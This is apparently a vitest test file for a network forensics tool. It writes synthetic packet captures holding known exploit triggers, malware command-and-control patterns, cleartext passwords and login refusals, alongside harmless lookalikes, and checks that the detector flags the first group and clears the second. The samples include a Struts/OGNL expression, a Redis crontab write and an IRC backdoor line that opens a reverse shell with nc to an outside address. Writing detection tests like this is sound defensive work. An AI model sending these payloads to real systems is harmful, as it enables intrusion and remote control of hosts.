import { mkdtempSync, readFileSync, rmSync, writeFileSync } from 'node:fs';
import { tmpdir } from 'node:os';
import { join } from 'node:path';
import { afterAll, beforeAll, describe, expect, it } from 'vitest';
import type { Finding } from '../../../src/domain/finding.ts';
import type { FindingKind } from '../../../src/domain/finding-kinds.ts';
import { measureWithoutTools } from '../../../src/forensics/measure/own-reader.ts';
import { asChunks } from '../../fakes/chunks.ts';
import { capture, type Conversation } from './conversations.ts';
import { checkEvidence, measureFile } from './tshark.ts';

type Said = Conversation['says'][number];
type Case = [string, number, Said[], FindingKind, ('tcp' | 'udp')?];
const up = (bytes: string): Said => ({ from: 'client', bytes });
const down = (bytes: string): Said => ({ from: 'server', bytes });
const request = (line: string, headers = '', body = ''): Said =>
  up(`${line} HTTP/1.1\r\nHost: a.example\r\n${headers}\r\n${body}`);
const ok = (body: string): Said =>
  down(`HTTP/1.1 200 OK\r\nContent-Type: text/plain\r\nContent-Length: ${body.length}\r\n\r\n${body}`);
const twoByte = (text: string): string => text.replaceAll(/./gs, '$&\0');

const attacks: Case[] = [
  ['a gateway asked for its shell', 443, [request('GET /tmui/login.jsp/..;/tmui/x.jsp')], 'exploit'],
  ['a router told to upgrade', 37_215, [request('POST /ctrlt/DeviceUpgrade_1')], 'exploit'],
  [
    'an expression for a wiki',
    8090,
    [request('GET /%24%7B%28%23a%3D%40org.apache.commons.io%7D/')],
    'exploit',
  ],
  [
    'an expression for Struts',
    8080,
    [request('GET /', "Content-Type: %{(#_='multipart/form-data').(@java.x)}\r\n")],
    'exploit',
  ],
  ['a range no file has', 80, [request('GET /', 'Range: bytes=0-18446744073709551615\r\n')], 'exploit'],
  ['an overlong address for WebDAV', 80, [request(`SEARCH /${'\x90A'.repeat(600)}`)], 'exploit'],
  ['a script for a file server', 80, [request('GET /?search=%00{.exec|calc.}')], 'exploit'],
  ['a mail command for a shell', 25, [down('220 a ESMTP\r\n'), up('MAIL FROM:<;sleep 10;>\r\n')], 'exploit'],
  ['a door in ProFTPD', 21, [down('220 ProFTPD\r\n'), up('HELP ACIDBITCHEZ\r\n')], 'exploit'],
  ['a door in an IRC server', 6667, [up('AB;nohup nc -e /bin/sh 10.0.0.1 4444\n')], 'exploit'],
  ['root by Telnet', 23, [up('\xff\xfa\x27\0\0USER\x01-froot\xff\xf0')], 'exploit'],
  [
    'a server name longer than any',
    135,
    [up(`\x05\0\0\x03\x10\0\0\0${'\0'.repeat(40)}\\\0\\\0${twoByte('F'.repeat(60))}`)],
    'exploit',
  ],
  [
    'Redis told to write a crontab',
    6379,
    [up('*4\r\n$6\r\nconfig\r\n$3\r\nset\r\n$3\r\ndir\r\n$16\r\n/var/spool/cron/\r\n')],
    'exploit',
  ],
  ['a container for a stranger', 2375, [request('POST /v1.24/containers/create')], 'exploit'],
  [
    'TrickBot',
    447,
    [request('GET /ono19/PC7_W617601.0123456789ABCDEF0123456789ABCDEF/5/spk/')],
    'malware_c2',
  ],
  [
    'IcedID',
    80,
    [request('GET /', 'Cookie: __gads=3000901376:1:16212:134; _gat=10.0.22000.64\r\n')],
    'malware_c2',
  ],
  [
    'FormBook',
    80,
    [
      up(
        'GET /a8si/?gJ=6lRhz8p0xT+ab/cd0123456789&v4=Xxl HTTP/1.1\r\nHost: www.shop.example\r\nConnection: close\r\n\r\n',
      ),
    ],
    'malware_c2',
  ],
  [
    'NetSupport',
    1203,
    [up('POST http://198.18.0.1/fakeurl.htm HTTP/1.1\r\nUser-Agent: NetSupport Manager/1.3\r\n\r\n')],
    'malware_c2',
  ],
  ['a beacon', 80, [request('GET /ca', `Cookie: ${'aB3+'.repeat(42)}xyz=\r\n`)], 'malware_c2'],
  ['Mirai', 23, [down('login: '), up('/bin/busybox ECCHI\r\n')], 'malware_c2'],
  ['Back Orifice', 31_337, [up('\xce\x63\xd1\xd2\x16\xe7\x13\xcf\x39\xa5')], 'malware_c2', 'udp'],
  ['Cerber', 6892, [up('hi00735a1')], 'ransomware', 'udp'],
  ['TeslaCrypt', 80, [request('POST /wp-content/misc.php')], 'ransomware'],
  [
    'a password in JSON',
    80,
    [
      request(
        'POST /login',
        'Content-Type: application/json\r\nContent-Length: 38\r\n',
        '{"user":"ann","password":"S3CRET-word"}',
      ),
    ],
    'cleartext_credentials',
  ],
  [
    'a password in an address',
    80,
    [request('GET /login?user=ann&password=S3CRET-word')],
    'cleartext_credentials',
  ],
  [
    'a login for news',
    119,
    [down('200 hi\r\n'), up('AUTHINFO PASS S3CRET-word\r\n')],
    'cleartext_credentials',
  ],
  ['a password for IRC', 6667, [up('PRIVMSG NickServ :IDENTIFY S3CRET-word\r\n')], 'cleartext_credentials'],
  [
    'a bind of a directory',
    389,
    [up('\x30\x1d\x02\x01\x01\x60\x18\x02\x01\x03\x04\x06cn=ann\x80\x0bS3CRET-word')],
    'cleartext_credentials',
  ],
  ['an rlogin', 513, [up('\0ann\0ann\0xterm/38400\0')], 'cleartext_credentials'],
  [
    'the community of SNMP',
    161,
    [up('\x30\x26\x02\x01\x01\x04\x06public\xa0\x19')],
    'cleartext_credentials',
    'udp',
  ],
  [
    'a refusal of VNC',
    5900,
    [down('RFB 003.008\n'), down('\0\0\0\x01\0\0\0\x16password check failed!')],
    'auth_failure',
  ],
  ['a refusal of Redis', 6379, [down('-WRONGPASS invalid username-password pair\r\n')], 'auth_failure'],
  ['a refusal of a broker', 1883, [down('\x20\x02\0\x05')], 'auth_failure'],
  [
    'a refusal of XMPP',
    5222,
    [down("<failure xmlns='urn:ietf'><not-authorized/></failure>")],
    'auth_failure',
  ],
];

/** The same words where they mean no harm, and the kind that must not be found. */
const innocent: Case[] = [
  ['a range of a download', 80, [request('GET /a.iso', 'Range: bytes=0-1048575\r\n')], 'exploit'],
  ['a long search', 80, [request(`GET /?search=${'word+'.repeat(60)}`)], 'exploit'],
  ['a mail from a person', 25, [up('MAIL FROM:<ann@a.example>\r\n')], 'exploit'],
  [
    'Redis told a size',
    6379,
    [up('*4\r\n$6\r\nconfig\r\n$3\r\nset\r\n$9\r\nmaxmemory\r\n$3\r\n1gb\r\n')],
    'exploit',
  ],
  [
    'a share with a short name',
    445,
    [up(`\0\0\0\x60${'\0'.repeat(40)}\\\0\\\0${twoByte('FILESERVER')}\\\0d\0`)],
    'exploit',
  ],
  ['a page with parameters', 80, [request('GET /shop/?id=12&page=3', 'Connection: close\r\n')], 'malware_c2'],
  ['a session cookie', 80, [request('GET /', `Cookie: id=${'aB3+'.repeat(42)}xyz=\r\n`)], 'malware_c2'],
  ['a person’s busybox', 23, [up('busybox --help\r\n')], 'malware_c2'],
  ['a page about passwords', 80, [request('GET /help/password-rules?lang=en')], 'cleartext_credentials'],
  [
    'an anonymous bind',
    389,
    [up('\x30\x0c\x02\x01\x01\x60\x07\x02\x01\x03\x04\0\x80\0')],
    'cleartext_credentials',
  ],
  ['an accepted VNC password', 5900, [down('RFB 003.008\n'), down('\0\0\0\0')], 'auth_failure'],
  ['an accepted broker login', 1883, [down('\x20\x02\0\0')], 'auth_failure'],
  ['a value', 6379, [up('*2\r\n$3\r\nGET\r\n$1\r\na\r\n'), down('$5\r\nhello\r\n')], 'auth_failure'],
  ['a text of a page', 80, [request('GET /a'), ok('What does -WRONGPASS mean?')], 'auth_failure'],
];

const hosts = (index: number) => ({ client: `10.1.${index}.1`, server: `198.18.${index}.2` });
const all = [...attacks, ...innocent].map(([, port, says, , over]: Case, index): Conversation => ({
  ...hosts(index),
  port,
  says,
  over: over ?? 'tcp',
}));
const between = (findings: readonly Finding[], index: number, kind: FindingKind) => {
  const { client, server } = hosts(index);
  const ends = [client, server].join();
  return findings.filter(
    (one) => one.kind === kind && [...one.actor, ...one.target].toSorted().join() === ends,
  );
};

describe('published holes, programs and passwords', () => {
  let folder = '';
  let path = '';
  let byTshark: Finding[] = [];
  let byUs: Finding[] = [];
  beforeAll(async () => {
    folder = mkdtempSync(join(tmpdir(), 'capwright-holes-'));
    path = join(folder, 'conversations.pcap');
    const bytes = capture(all);
    writeFileSync(path, bytes);
    byTshark = (await measureFile(path)).findings;
    const file = {
      path,
      bytes: bytes.length,
      sha256: () => Promise.resolve('0'.repeat(64)),
      format: 'pcap' as const,
    };
    const input = { file, signal: new AbortController().signal, onProgress: () => undefined };
    byUs = (await measureWithoutTools(asChunks(chunksOf(path)), input)).findings;
  }, 120_000);
  afterAll(() => rmSync(folder, { recursive: true, force: true }));

  it('are recognised from the bytes of one packet', () => {
    const missed = attacks.filter(([, , , kind], index) => between(byTshark, index, kind).length !== 1);

    expect(missed.map(([name]) => name)).toEqual([]);
  });

  it('are not seen in their honest likes', () => {
    const blamed = innocent.filter(
      ([, , , kind], index) => between([...byTshark, ...byUs], attacks.length + index, kind).length > 0,
    );

    expect(blamed.map(([name]) => name)).toEqual([]);
  });

  it('are proved by filters that tshark agrees with', async () => {
    const checked = await checkEvidence(path, byTshark);

    expect(checked.flatMap(({ faults }) => faults)).toEqual([]);
  });

  it('never bring a password into the words of a finding', () => {
    expect(JSON.stringify([...byTshark, ...byUs])).not.toContain('S3CRET');
  });
});

async function* chunksOf(path: string): AsyncGenerator<Uint8Array> {
  await Promise.resolve();
  yield readFileSync(path);
}
